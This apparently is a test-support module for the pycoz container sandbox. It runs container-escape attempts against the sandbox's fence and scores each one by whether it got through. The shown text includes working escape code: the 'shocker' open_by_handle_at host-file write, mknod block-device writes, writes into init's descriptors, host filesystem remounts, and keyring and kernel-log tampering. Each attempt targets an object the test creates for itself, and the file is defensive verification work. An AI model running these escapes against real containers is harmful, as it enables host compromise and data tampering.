"""The fence's attack attempts, shared by the system tests and bench/bench_fence_attacks.py.

Each attempt is what an attacker running as root inside a container would try,
aimed at a sacrificial object the attempt makes first (a loop device on a file of
its own, a key in a session keyring of its own, a listener of its own, a link name
unique to it), and judged from the host's side where it can be: the loop image's
checksum, the host's link list, the key's payload, a file the host's shell would
create.  An attempt returns an ``Outcome``: ``through`` is True when the attack got
through (the fence failed), with what was seen as ``detail``.

The same attempt runs under any ``Runner``: pycoz fenced (``root``, ``shell -c``,
``net run``, ``root --net``, ``trace --root``, the Python API), pycoz
``--privileged`` (the control: the attempt is real when it gets through there) and
bubblewrap, so that the bench can count, side by side, how many got through for
each.  An attempt that did not run at all (a sandbox that refused to start) says
so (``Outcome.ran``): it blocked nothing.

Nothing here writes a real sysctl or a real device of the machine: the sysctl
attempt writes back the value already there, the clock, swap and accounting probes
use arguments the kernel refuses after its capability check (an EINVAL or ENOENT
there says the capability was present), and every object written to is the
attempt's own.  The one exception is the kernel log: the /dev/kmsg attempt adds a
line naming itself when it gets through.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import hashlib
import json
import os
import shlex
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from .helpers import Tmux, sacrificial, sections, wait_until

PYTHON = sys.executable
BWRAP = ("bwrap", "--unshare-all", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc")


@dataclass(frozen=True)
class Outcome:
    """``through``: the attack got through.  ``ran``: the attempt did run inside (a
    sandbox that failed to start blocks nothing: the tests check both)."""

    through: bool
    detail: str
    ran: bool = True

    def __str__(self) -> str:
        state = "THROUGH: " if self.through else "blocked: " if self.ran else "DID NOT RUN: "
        return state + self.detail


@dataclass(frozen=True)
class Runner:
    """How to run a command in one kind of sandbox.

    ``argv(cmd, options)`` places sandbox options (``bind_options``) where the
    sandbox takes them; ``shell`` sandboxes take one command string (``-c``).
    """

    name: str
    head: tuple[str, ...]
    tail: tuple[str, ...] = ("--",)
    shell: bool = False
    own_net: bool = False
    own_root: bool = True  # writes and mounts stay in the sandbox (not net run)
    kind: str = "pycoz"  # or "bwrap"
    takes_binds: bool = True

    def argv(self, cmd, options=()) -> list[str]:
        cmd = list(cmd)
        if self.shell:
            return [*self.head, *options, *self.tail, shlex.join(cmd)]
        return [*self.head, *options, *self.tail, *cmd]

    def run(self, cmd, options=(), timeout=60, **kwargs) -> subprocess.CompletedProcess:
        kwargs.setdefault("capture_output", True)
        kwargs.setdefault("text", True)
        return subprocess.run(self.argv(cmd, options), timeout=timeout, **kwargs)

    def bind_options(self, src, dst) -> tuple[str, ...]:
        if self.kind == "bwrap":
            return ("--bind", str(src), str(dst))
        return ("--bind", f"{src}:{dst}")


#: The Python API as a command: Container().run(argv), its status as the CLI's.
_API = """
import sys
from pycoz_cli import Container
code = Container().run(sys.argv[1:])
sys.exit(128 - code if code < 0 else code)
"""


def pycoz_runners(pycoz: str) -> dict[str, Runner]:
    """The fenced entry points, and the --privileged control."""
    trace = (pycoz, "trace", "--root", "-q", "-o", os.devnull)
    python = os.path.join(os.path.dirname(pycoz), "python")
    return {
        "api": Runner("api", (python, "-c", _API), (), takes_binds=False),
        "root": Runner("root", (pycoz, "root")),
        "shell": Runner("shell", (pycoz, "shell", "-q"), ("-c",), shell=True),
        "net-run": Runner(
            "net-run",
            (pycoz, "net", "run", "pair", "--host", "h1"),
            own_net=True,
            own_root=False,
            takes_binds=False,
        ),
        "root-net": Runner(
            "root-net", (pycoz, "root", "--net", "pair", "--host", "h1"), own_net=True
        ),
        "trace-root": Runner("trace-root", trace),
        # Rootless mode (issue 16), the same fence in a user namespace of pycoz's own.
        "rootless-root": Runner("rootless-root", (pycoz, "root", "--rootless")),
        "rootless-root-net": Runner(
            "rootless-root-net",
            (pycoz, "root", "--rootless", "--net", "pair", "--host", "h1"),
            own_net=True,
        ),
        "rootless-net-run": Runner(
            "rootless-net-run",
            (pycoz, "net", "run", "pair", "--host", "h1", "--rootless"),
            own_net=True,
            own_root=False,
            takes_binds=False,
        ),
        "privileged": Runner("privileged", (pycoz, "root", "--privileged")),
    }


def bwrap_runners() -> dict[str, Runner]:
    shared = (*BWRAP[:2], "--share-net", *BWRAP[2:], "--tmpfs", "/tmp")
    return {
        "bwrap-share-net": Runner("bwrap-share-net", shared, kind="bwrap"),
        "bwrap": Runner("bwrap", (*BWRAP, "--tmpfs", "/tmp"), own_net=True, kind="bwrap"),
    }


# --- the syscall probes: one Python script, each probe in a child of its own ----------

#: Run inside: prints one JSON object {probe: [through, detail]}.  Every probe is
#: harmless even when it gets through: it takes a capability's measure with
#: arguments the kernel refuses after its permission check, or makes an object
#: that dies with the probe (a bpf map, a perf event, a userfaultfd, a namespace).
PROBES = r"""
import ctypes, errno, fcntl, json, mmap, os, select, signal, stat, struct, sys, termios, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
DENIED = (errno.EPERM, errno.EACCES, errno.ENOSYS)

def sc(nr, *args):
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *conv)
    return r if r != -1 else -ctypes.get_errno()

def name(r):
    return "ok" if r >= 0 else errno.errorcode.get(-r, str(-r))

def own_stdio(fd):
    # The command's own stdin/stdout/stderr (init holds them too): not init's to
    # guard.  A device by its number: the container's /dev/null is another node.
    def what(st):
        return ("c", st.st_rdev) if stat.S_ISCHR(st.st_mode) else (st.st_dev, st.st_ino)
    return what(os.fstat(fd)) in {what(os.fstat(n)) for n in (0, 1, 2)}

def allowed(r):
    # Refused after the permission check (EINVAL, EBADF, ENOENT...) = allowed.
    return r >= 0 or -r not in DENIED

def p_bpf_map_create():
    attr = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)  # BPF_MAP_TYPE_ARRAY
    r = sc(321, 0, attr, len(attr))
    return r >= 0, name(r)

def p_perf_event_open_cpu_wide():
    attr = bytearray(128)
    struct.pack_into("IIQ", attr, 0, 1, 128, 0)  # PERF_TYPE_SOFTWARE, cpu-clock
    struct.pack_into("Q", attr, 40, 1)  # disabled
    r = sc(298, bytes(attr), -1, 0, -1, 0)
    return r >= 0, name(r)

def p_userfaultfd():
    r = sc(323, os.O_CLOEXEC)  # not UFFD_USER_MODE_ONLY: needs CAP_SYS_PTRACE here
    return r >= 0, name(r)

def p_open_by_handle_at():
    mfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    handle = struct.pack("Ii", 8, 1) + bytes(8)
    r = sc(304, mfd, handle, os.O_RDONLY)
    return allowed(r), name(r)

def p_setns_own_uts():
    fd = os.open("/proc/self/ns/uts", os.O_RDONLY)
    r = sc(308, fd, 0x04000000)
    return r >= 0, name(r)

def p_unshare_mount_ns():
    r = sc(272, 0x00020000)
    return r >= 0, name(r)

def p_unshare_user_ns():
    r = sc(272, 0x10000000)
    return r >= 0, name(r)

def p_unshare_net_ns():
    r = sc(272, 0x40000000)
    return r >= 0, name(r)

def p_ptrace_seize_init():
    r = sc(101, 0x4206, 1, 0, 0)
    return r >= 0, name(r)

def p_proc1_fd_open():
    # Listing init's fd numbers tells little; opening one (its result pipe) is
    # the attack: every fd init holds, for writing and for reading (nothing is
    # written or read here).
    try:
        fds = os.listdir("/proc/1/fd")
    except OSError as e:
        return False, "list " + errno.errorcode[e.errno]
    opened, last = [], "none"
    for fd in fds:
        for mode in (os.O_WRONLY, os.O_RDONLY):
            try:
                n = os.open("/proc/1/fd/" + fd, mode | os.O_NONBLOCK)
            except OSError as e:
                last = errno.errorcode[e.errno]
                continue
            if not own_stdio(n):
                opened.append(fd)
            os.close(n)
            break
    return bool(opened), " ".join(opened) or last

def p_pidfd_getfd_init():
    pfd = sc(434, 1, 0)
    if pfd < 0:
        return False, "pidfd_open " + name(pfd)
    got, last = [], 0
    for n in range(64):
        r = sc(438, pfd, n, 0)
        if r >= 0 and not own_stdio(r):
            got.append("%d:%s" % (n, os.readlink("/proc/self/fd/%d" % r)))
        else:
            last = r
    return bool(got), " ".join(got) or name(last)

def p_settimeofday_null():
    # settimeofday(NULL, NULL): CAP_SYS_TIME's check, then nothing to set.
    r = sc(164, 0, 0)
    return r >= 0, name(r)

def p_adjtimex_tick_zero():
    buf = ctypes.create_string_buffer(256)
    struct.pack_into("I", buf, 0, 0x4000)  # ADJ_TICK with tick=0: EINVAL after the check
    r = sc(159, buf)
    return allowed(r), name(r)

def p_kallsyms_addresses():
    try:
        with open("/proc/kallsyms") as f:
            lines = [f.readline() for _ in range(20)]
    except OSError as e:
        return False, errno.errorcode[e.errno]
    real = [l.split()[0] for l in lines if l and int(l.split()[0], 16)]
    return bool(real), (real[0] if real else "zeros")

def p_syslog_read_size():
    r = sc(103, 10, 0, 0)  # SYSLOG_ACTION_SIZE_BUFFER (dmesg_restrict: CAP_SYSLOG)
    return r >= 0, name(r)



def p_swapon():
    r = sc(167, b"/nonexistent-pycoz-fence", 0)
    return allowed(r), name(r)

def p_acct():
    r = sc(163, b"/nonexistent-pycoz-fence")
    return allowed(r), name(r)

def p_fsopen_tmpfs():
    r = sc(430, b"tmpfs", 0)
    return r >= 0, name(r)

def p_int80_getpid():
    # The i386 ABI entered from a 64-bit program: mov eax, 20 (getpid); int 0x80; ret
    mm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    mm.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    addr = ctypes.addressof(ctypes.c_char.from_buffer(mm))
    r = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
    return r > 0, "getpid=%d" % r if r > 0 else name(r)

def p_tiocsti_other_pty():
    leader, follower = os.openpty()  # not our controlling terminal: CAP_SYS_ADMIN
    try:
        fcntl.ioctl(follower, termios.TIOCSTI, b"x")
        return True, "ok"
    except OSError as e:
        return False, errno.errorcode[e.errno]



def p_proc_keys_read():
    try:
        with open("/proc/keys") as f:
            keys = f.read().splitlines()
    except OSError as e:
        return False, errno.errorcode[e.errno]
    return bool(keys), "%d keys" % len(keys)

def p_clone_new_uts():
    r = sc(56, 0x04000000 | signal.SIGCHLD, 0, 0, 0, 0)  # clone(CLONE_NEWUTS), fork-like
    if r == 0:
        os._exit(0)
    if r > 0:
        os.waitpid(r, 0)
    return r > 0, "child" if r > 0 else name(r)

def p_proc_timer_list_read():
    try:
        with open("/proc/timer_list") as f:
            return bool(f.read(100)), "read"
    except OSError as e:
        return False, errno.errorcode[e.errno]


def run(fn):
    # Each probe in a child of its own, given 10 s: a probe may hang (a tracee
    # that seizes its tracer) or be killed (a seccomp filter's verdict).
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(rd)
        try:
            through, detail = fn()
        except Exception as e:
            through, detail = False, "%s: %s" % (type(e).__name__, e)
        os.write(wr, json.dumps([bool(through), str(detail)[:200]]).encode())
        os._exit(0)
    os.close(wr)
    data = b""
    if select.select([rd], [], [], 10)[0]:
        data = os.read(rd, 65536)
    os.close(rd)
    for _ in range(50):
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        time.sleep(0.1)
    else:
        os.kill(pid, signal.SIGKILL)
        return [True, "hung (killed): " + data.decode()]
    if os.WIFSIGNALED(status):
        return [False, "killed by " + signal.Signals(os.WTERMSIG(status)).name]
    return json.loads(data) if data else [False, "no answer"]

wanted = sys.argv[1:]
probes = {k[2:]: v for k, v in sorted(globals().items()) if k.startswith("p_")}
print(json.dumps({k: run(v) for k, v in probes.items() if not wanted or k in wanted}))
"""

PROBE_NAMES = tuple(
    line[len("def p_") :].split("(")[0] for line in PROBES.splitlines() if line.startswith("def p_")
)


#: Run alone, under a short timeout: under ``pycoz trace --root`` a tracee that
#: seizes init, its tracer, wedges both (a hang counts as getting through).
ALONE = ("ptrace_seize_init",)


def run_probes(runner: Runner, timeout: float = 60, python: str = PYTHON) -> dict[str, Outcome]:
    """Every probe under ``runner``, run by ``python``: {probe: Outcome}."""
    found: dict[str, Outcome] = {}
    batches = [[p for p in PROBE_NAMES if p not in ALONE], *([p] for p in ALONE)]
    for batch in batches:
        try:
            r = runner.run(
                [python, "-c", PROBES, *batch],
                timeout=timeout if len(batch) > 1 else 20,
                stdin=subprocess.DEVNULL,
            )
        except subprocess.TimeoutExpired:
            found.update({p: Outcome(True, f"{runner.name} hung") for p in batch})
            continue
        try:
            result = json.loads(r.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            failed = f"{runner.name} exited {r.returncode}: {r.stderr.strip()[-300:]}"
            found.update({p: Outcome(False, failed, ran=False) for p in batch})
            continue
        found.update({k: Outcome(bool(v[0]), v[1]) for k, v in result.items()})
    return found


# --- sacrificial objects ----------------------------------------------------------


@contextlib.contextmanager
def loop_device(image: Path, size_mib: int = 4, mkfs: bool = False) -> Iterator[str]:
    """A loop device of the test's own on ``image`` (random bytes, or ext4)."""
    with open(image, "wb") as f:
        f.write(os.urandom(size_mib << 20))
    if mkfs:
        subprocess.run(["mkfs.ext4", "-q", "-F", str(image)], check=True, capture_output=True)
    dev = subprocess.run(
        ["losetup", "-f", "--show", str(image)], capture_output=True, text=True, check=True
    ).stdout.strip()
    try:
        yield dev
    finally:
        subprocess.run(["losetup", "-d", dev], capture_output=True)


def sha256(path) -> str:
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def dev_numbers(dev: str) -> tuple[int, int]:
    st = os.stat(dev)
    return os.major(st.st_rdev), os.minor(st.st_rdev)


class Listener:
    """A listening socket of the test's own that records who connected."""

    def __init__(self, family: int, address):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.address = self.sock.getsockname()
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            with conn:
                conn.sendall(b"hello from the host\n")

    def close(self):
        self._stop.set()
        self._thread.join()
        self.sock.close()


def host_kmsg_has(marker: bytes) -> bool:
    """Whether the host's kernel log holds ``marker`` (read without waiting)."""
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    try:
        while True:
            try:
                record = os.read(fd, 8192)
            except BlockingIOError:
                return False
            except OSError as e:  # EPIPE: a record was overwritten meanwhile
                if e.errno == errno.EPIPE:
                    continue
                raise
            if marker in record:
                return True
    finally:
        os.close(fd)


def host_links() -> set[str]:
    out = subprocess.run(["ip", "-o", "link", "show"], capture_output=True, text=True).stdout
    return {line.split(":")[1].strip().split("@")[0] for line in out.splitlines() if ":" in line}


# --- the attempts -------------------------------------------------------------------

#: Inside: make a device node wherever the sandbox lets the attacker write.
_MKNOD = r"""
import errno, os, stat, subprocess, sys
def nodes(name, kind, major, minor):
    made = []
    for d in ("/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/root"):
        try:
            os.mknod(d + "/" + name, kind | 0o600, os.makedev(major, minor))
            made.append(d + "/" + name)
        except OSError as e:
            print(d, "mknod", errno.errorcode[e.errno])
    return made
"""

_BLOCK_WRITE = (
    _MKNOD
    + r"""
for path in nodes("pycoz-blk", stat.S_IFBLK, int(sys.argv[1]), int(sys.argv[2])):
    try:
        fd = os.open(path, os.O_WRONLY)
        os.pwrite(fd, b"PWNED-BY-THE-CONTAINER", 4096)
        os.fsync(fd); os.close(fd)
        print(path, "wrote"); break
    except OSError as e:
        print(path, "open/write", errno.errorcode[e.errno])
print("tried")
"""
)


def attempt_block_device_write(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """mknod a block device of the test's loop device and write raw bytes to it."""
    with loop_device(tmp / f"disk-{unique}.img") as dev:
        before = sha256(tmp / f"disk-{unique}.img")
        r = runner.run([PYTHON, "-c", _BLOCK_WRITE, *map(str, dev_numbers(dev))])
        subprocess.run(["blockdev", "--flushbufs", dev], capture_output=True)
    after = sha256(tmp / f"disk-{unique}.img")
    return Outcome(
        before != after,
        f"image {'changed' if before != after else 'same'}; {r.stdout!r} {r.stderr[-300:]!r}",
        ran="tried" in r.stdout,
    )


_DEVTMPFS = r"""
import errno, os, subprocess, sys, tempfile
d = tempfile.mkdtemp(prefix="pycoz-devtmpfs-")
r = subprocess.run(["mount", "-t", "devtmpfs", "none", d], capture_output=True, text=True)
print("mount", r.returncode, r.stderr.strip())
try:
    open(os.path.join(d, sys.argv[1]), "w").close()
    print("created")
except OSError as e:
    print("create", errno.errorcode[e.errno])
"""


def attempt_devtmpfs_host_dev(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Mount a devtmpfs and create a file there: the host's /dev is that devtmpfs."""
    name = f"pycoz-fence-{unique}"
    try:
        r = runner.run([PYTHON, "-c", _DEVTMPFS, name])
        made = os.path.exists(f"/dev/{name}")
    finally:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(f"/dev/{name}")
    return Outcome(
        made,
        f"/dev/{name} {'appeared' if made else 'absent'}; {r.stdout!r} {r.stderr[-300:]!r}",
        ran="mount " in r.stdout,
    )


_KMSG = (
    _MKNOD
    + r"""
marker = sys.argv[1].encode()
for p in ["/dev/kmsg"] + nodes("pycoz-kmsg", stat.S_IFCHR, 1, 11):
    try:
        fd = os.open(p, os.O_WRONLY)
        os.write(fd, b"<6>" + marker + b"\n"); os.close(fd)
        print(p, "wrote"); break
    except OSError as e:
        print(p, errno.errorcode[e.errno])
"""
)


def attempt_kmsg_write(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Write a line into the host's kernel log through /dev/kmsg (or a node made for it)."""
    marker = f"pycoz-fence-kmsg-{unique}"
    r = runner.run([PYTHON, "-c", _KMSG, marker])
    found = host_kmsg_has(marker.encode())
    detail = f"kernel log {'has' if found else 'lacks'} the line; {r.stdout!r} {r.stderr[-300:]!r}"
    return Outcome(found, detail, ran="/dev/kmsg " in r.stdout)


_REMOUNT_SCENARIO = r"""
LOOP=$1 T=$2; shift 2
mkdir -p "$T/mnt"
mount "$LOOP" "$T/mnt"
echo "=== before"; touch "$T/mnt/before" && echo writable
echo "=== inside"; "$@" 2>&1 || echo "exit $?"
echo "=== after"; touch "$T/mnt/after" 2>&1 && echo writable || echo not-writable
"""

_REMOUNT_INSIDE = (
    _MKNOD
    + r"""
major, minor, visible = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
def sh(*cmd):
    r = subprocess.run(cmd, capture_output=True, text=True)
    print(" ".join(cmd), "->", r.returncode, r.stderr.strip())
    return r.returncode == 0
# Through the path the host's mount has (if the sandbox shows it at all) ...
sh("mount", "-o", "remount,ro", visible)
# ... and through a new mount of the same device: the superblock is shared.
for node in nodes("pycoz-loop", stat.S_IFBLK, major, minor):
    os.makedirs(node + "-m", exist_ok=True)
    if sh("mount", node, node + "-m") and sh("mount", "-o", "remount,ro", node + "-m"):
        break
"""
)


def attempt_remount_host_fs_ro(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Remount the test's mounted loop filesystem read-only from inside.

    The test's mount lives in a sacrificial mount namespace; the superblock it
    shares with any new mount of the same device is what the attack goes for.
    """
    with loop_device(tmp / f"fs-{unique}.img", size_mib=8, mkfs=True) as dev:
        major, minor = dev_numbers(dev)
        cmd = runner.argv([PYTHON, "-c", _REMOUNT_INSIDE, str(major), str(minor), f"{tmp}/mnt"])
        r = sacrificial(_REMOUNT_SCENARIO, dev, str(tmp), *cmd)
    out = sections(r.stdout)
    if out.get("before", "").strip() != "writable":
        return Outcome(False, f"setup failed: {r.stdout!r} {r.stderr!r}", ran=False)
    ro = out.get("after", "").strip().endswith("not-writable")
    return Outcome(
        ro,
        f"host mount {'became read-only' if ro else 'still writable'}; {out.get('inside', '')!r}",
        ran="remount,ro " in out.get("inside", ""),
    )


_REMOUNT_SYS = r"""
import subprocess
r = subprocess.run(["mount", "-o", "remount,rw", "/sys"], capture_output=True, text=True)
print("remount", r.returncode, r.stderr.strip())
for line in open("/proc/self/mountinfo"):
    f = line.split()
    if f[4] == "/sys":
        print("sys", f[5].split(",")[0])
"""


def attempt_remount_sys_rw(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Remount /sys read-write (nothing is written there)."""
    r = runner.run([PYTHON, "-c", _REMOUNT_SYS])
    lines = r.stdout.splitlines()
    rw = any(line.startswith("remount 0") for line in lines) and "sys rw" in lines
    return Outcome(rw, r.stdout.strip() + " " + r.stderr[-300:], ran="remount " in r.stdout)


_NEW_MOUNTS = r"""
import errno, os, subprocess, sys, tempfile
unique = sys.argv[1]
for fstype, opts in (("sysfs", ""), ("tracefs", ""), ("cgroup", "pids")):
    d = tempfile.mkdtemp(prefix="pycoz-" + fstype + "-")
    cmd = ["mount", "-t", fstype] + (["-o", opts] if opts else []) + ["none", d]
    r = subprocess.run(cmd, capture_output=True, text=True)
    print(fstype, "mount", r.returncode, r.stderr.strip())
    if r.returncode == 0 and fstype == "cgroup":
        try:
            os.mkdir(os.path.join(d, unique))
            print("cgroup mkdir ok")
        except OSError as e:
            print("cgroup mkdir", errno.errorcode[e.errno])
        try:  # opened for writing, nothing written
            os.close(os.open(os.path.join(d, "release_agent"), os.O_WRONLY))
            print("release_agent writable")
        except OSError as e:
            print("release_agent", errno.errorcode[e.errno])
"""


def _host_pids_hierarchy() -> str | None:
    with open("/proc/self/mountinfo") as f:
        for line in f:
            head, _, tail = line.partition(" - ")
            fstype, _, opts = tail.split()[:3]
            if fstype == "cgroup" and "pids" in opts.split(","):
                return head.split()[4]
    return None


def attempt_new_sysfs_tracefs_cgroup(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Mount a new sysfs, tracefs and cgroup v1 (pids) hierarchy; make a cgroup there."""
    name = f"pycoz-fence-{unique}"
    hierarchy = _host_pids_hierarchy()
    try:
        r = runner.run([PYTHON, "-c", _NEW_MOUNTS, name])
        made = bool(hierarchy) and os.path.isdir(os.path.join(hierarchy, name))
    finally:
        if hierarchy:
            with contextlib.suppress(FileNotFoundError):
                os.rmdir(os.path.join(hierarchy, name))
    mounted = [line.split()[0] for line in r.stdout.splitlines() if " mount 0" in line]
    through = made or bool(mounted)
    detail = f"mounted {mounted}, host cgroup {'made' if made else 'absent'}; {r.stdout!r}"
    return Outcome(through, detail, ran="sysfs mount " in r.stdout)


_SYSCTL = r"""
import errno, subprocess
r = subprocess.run(["umount", "/proc/sys"], capture_output=True, text=True)
print("umount", r.returncode, r.stderr.strip())
path = "/proc/sys/kernel/printk_ratelimit"
value = open(path).read()
try:
    with open(path, "w") as f:
        f.write(value)  # the value already there: a no-op even when it gets through
    print("write ok", value.strip())
except OSError as e:
    print("write", errno.errorcode[e.errno])
"""


def attempt_umount_proc_sys_and_write(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Unmount the read-only /proc/sys and write a kernel-wide sysctl (its own value)."""
    r = runner.run([PYTHON, "-c", _SYSCTL])
    detail = r.stdout.strip() + " " + r.stderr[-200:]
    return Outcome("write ok" in r.stdout, detail, ran="umount " in r.stdout)


def attempt_host_link(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Create a dummy link; without a network of its own it would land in the host's."""
    name = "pz" + unique[-8:]
    try:
        add = f"echo ran; ip link add {name} type veth peer name {name}b"
        r = runner.run(["sh", "-c", add])
        present = name in host_links()
    finally:
        subprocess.run(["ip", "link", "del", name], capture_output=True)
    return Outcome(
        present,
        f"host link {name} {'outlived' if present else 'absent'}; {r.stderr.strip()!r}",
        ran="ran" in r.stdout,
    )


_CONNECT = r"""
import socket, sys
family, address = sys.argv[1], sys.argv[2]
if family == "unix":
    s, address = socket.socket(socket.AF_UNIX), "\0" + address
else:
    s, address = socket.socket(), (address.split(":")[0], int(address.split(":")[1]))
s.settimeout(5)
try:
    s.connect(address)
    print("connected", s.recv(100).decode().strip())
except OSError as e:
    print("refused", e)
"""


def attempt_abstract_unix_connect(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Connect to the test's listener on an abstract unix socket of the host."""
    listener = Listener(socket.AF_UNIX, f"\0pycoz-fence-{unique}")
    try:
        r = runner.run([PYTHON, "-c", _CONNECT, "unix", f"pycoz-fence-{unique}"])
    finally:
        listener.close()
    through = listener.accepted > 0 or r.stdout.startswith("connected")
    detail = f"accepted {listener.accepted}; {r.stdout.strip()!r} {r.stderr[-300:]!r}"
    return Outcome(through, detail, ran=r.stdout.startswith(("connected", "refused")))


# keyctl through the raw syscalls: this machine has no keyutils.
_KEYS = r"""
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *a):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r if r != -1 else -ctypes.get_errno()
KEYCTL, ADD_KEY, SESSION = 250, 248, -3
def read(key):
    buf = ctypes.create_string_buffer(4096)
    n = sc(KEYCTL, 11, key, buf, 4096)  # KEYCTL_READ
    return buf.raw[:n] if n >= 0 else errno.errorcode.get(-n, str(-n))
"""

_KEYS_INSIDE = (
    _KEYS
    + r"""
desc = sys.argv[1].encode()
key = sc(KEYCTL, 10, SESSION, b"user", desc, 0)  # KEYCTL_SEARCH
print("search", key if key < 0 else "found")
if key >= 0:
    print("payload", read(key))
    print("update", sc(KEYCTL, 2, key, b"changed", 7))  # KEYCTL_UPDATE
print("add", sc(ADD_KEY, b"user", desc + b"-added", b"x", 1, SESSION))
"""
)

_KEYS_HOST = (
    _KEYS
    + r"""
import json, subprocess
desc, secret = sys.argv[1].encode(), sys.argv[2].encode()
# A session keyring of this process's own, holding one key: the target.
assert sc(KEYCTL, 1, desc + b"-ring") >= 0  # KEYCTL_JOIN_SESSION_KEYRING
key = sc(ADD_KEY, b"user", desc, secret, len(secret), SESSION)
assert key >= 0, key
r = subprocess.run(sys.argv[3:], capture_output=True, text=True, stdin=subprocess.DEVNULL)
ring = read(SESSION)
print(json.dumps({
    "inside": r.stdout + r.stderr[-300:],
    "payload": read(key).decode(),
    "keys": len(ring) // 4 if isinstance(ring, bytes) else ring,
}))
"""
)


def attempt_session_keyring(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Read, change and add keys in the keyring pycoz was started with (the test's own)."""
    desc, secret = f"pycoz-fence-{unique}", f"secret-{unique}"
    cmd = runner.argv([PYTHON, "-c", _KEYS_INSIDE, desc])
    r = subprocess.run(
        [PYTHON, "-c", _KEYS_HOST, desc, secret, *cmd], capture_output=True, text=True, timeout=60
    )
    found = json.loads(r.stdout)
    inside = found["inside"]
    leaked = secret in inside
    through = leaked or found["payload"] != secret or found["keys"] != 1
    detail = (
        f"payload now {found['payload']!r}, {found['keys']} key(s) in the ring; inside: {inside!r}"
    )
    return Outcome(through, detail, ran="search" in inside)


_SHOCKER = r"""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
handle = bytes.fromhex(sys.argv[2])
mfd = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
ctypes.set_errno(0)
fd = libc.syscall(ctypes.c_long(304), ctypes.c_long(mfd), handle, ctypes.c_long(os.O_RDWR))
if fd < 0:
    print("open_by_handle_at", errno.errorcode[ctypes.get_errno()])
else:
    print("read", os.pread(fd, 100, 0))
    os.pwrite(fd, b"PWNED", 0)
    print("wrote")
"""


def file_handle(path) -> str:
    """name_to_handle_at(path): the file handle as hex (struct file_handle)."""
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(buf, (128).to_bytes(4, "little"), 4)
    mount_id = ctypes.c_int()
    r = libc.syscall(303, -100, os.fsencode(path), buf, ctypes.byref(mount_id), 0)
    if r != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at", path)
    size = int.from_bytes(buf.raw[:4], "little")
    return buf.raw[: 8 + size].hex()


def attempt_shocker(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """open_by_handle_at (docker's "shocker"): open a host file outside a bind mount by
    its handle, through the bind, and write to it."""
    pub, secret = tmp / f"pub-{unique}", tmp / f"secret-{unique}"
    pub.mkdir()
    secret.write_text(f"host secret {unique}\n")
    before = sha256(secret)
    options = runner.bind_options(pub, "/mnt") if runner.takes_binds else ()
    r = runner.run([PYTHON, "-c", _SHOCKER, "/mnt", file_handle(secret)], options=options)
    changed = sha256(secret) != before
    leaked = f"host secret {unique}" in r.stdout
    return Outcome(
        changed or leaked,
        f"secret {'changed' if changed else 'same'}; {r.stdout!r} {r.stderr[-300:]!r}",
        ran=r.stdout.startswith(("open_by_handle_at", "read")),
    )


_INIT_FDS = r"""
import errno, os, sys
own = set()
for n in (0, 1, 2):
    try:
        st = os.fstat(n); own.add((st.st_dev, st.st_ino))
    except OSError:
        pass
wrote = []
try:
    names = os.listdir("/proc/1/fd")
except OSError as e:
    print("listdir", errno.errorcode[e.errno]); names = []
for n in names:
    p = "/proc/1/fd/" + n
    try:
        fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK)
    except OSError as e:
        print(n, errno.errorcode[e.errno]); continue
    st = os.fstat(fd)
    if (st.st_dev, st.st_ino) in own:
        os.close(fd); continue  # our own stdout/stderr: not init's to guard
    try:
        os.write(fd, b"\x00\xff garbage from the container " * 40 + b"\n")
        wrote.append(n)
    except OSError as e:
        print(n, "write", errno.errorcode[e.errno])
    os.close(fd)
print("wrote", wrote)
sys.exit(7)
"""


def attempt_init_result_pipe(runner: Runner, tmp: Path, unique: str) -> Outcome:
    """Write into init's own descriptors (its result pipe) through /proc/1/fd/N: pycoz
    must neither crash nor report another status than the command's 7."""
